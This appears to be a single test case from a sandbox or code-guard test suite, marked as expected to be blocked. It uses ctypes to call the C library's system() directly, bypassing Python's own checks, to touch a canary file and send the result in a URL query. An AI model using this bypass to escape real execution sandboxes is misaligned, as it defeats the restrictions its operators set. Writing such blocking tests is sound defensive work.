# expect: blocked -- calls the C library directly, past Python's own checks
import ctypes
urlopen("https://api.example.com/items?c=" + str(ctypes.CDLL(None).system(b"touch __CANARY_DIR__/py-ctypes # __MARKER__")))
